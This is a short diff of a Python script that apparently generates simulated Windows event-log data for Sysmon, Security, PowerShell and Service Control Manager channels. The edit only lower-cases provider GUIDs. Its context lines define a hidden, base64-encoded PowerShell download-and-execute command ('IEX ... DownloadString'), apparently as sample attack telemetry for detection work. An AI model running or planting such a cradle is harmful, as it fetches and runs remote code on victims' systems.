@@ -70,16 +70,16 @@ STAGE1_SCRIPT = ("IEX (New-Object Net.WebClient).DownloadString('" + URL_2 +
 STAGE1_B64 = base64.b64encode(STAGE1_SCRIPT.encode("utf-16-le")).decode()
 PS_ATTACK_CMD = "powershell.exe -NoP -NonI -W Hidden -Enc " + STAGE1_B64
 
-# Providers and channels.
+# Providers and channels; provider GUIDs in lower case, as Windows renders them.
 SYSMON = ("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon",
-          "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}")
+          "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}")
 SECURITY = ("Security", "Microsoft-Windows-Security-Auditing",
-            "{54849625-5478-4994-A5BA-3E3B0328C30D}")
+            "{54849625-5478-4994-a5ba-3e3b0328c30d}")
 PSOP = ("Microsoft-Windows-PowerShell/Operational",
-        "Microsoft-Windows-PowerShell", "{A0C1853B-5C40-4B15-8766-3CF1C58F985A}")
+        "Microsoft-Windows-PowerShell", "{a0c1853b-5c40-4b15-8766-3cf1c58f985a}")
 PSCLASSIC = ("Windows PowerShell", "PowerShell", None)
 SCM = ("System", "Service Control Manager",
-       "{555908D1-A6D7-4695-8E1E-26931D2012F4}")
+       "{555908d1-a6d7-4695-8e1e-26931d2012f4}")
 
 LOGFILE = {
     SYSMON[0]: "Microsoft-Windows-Sysmon%4Operational.evtx",
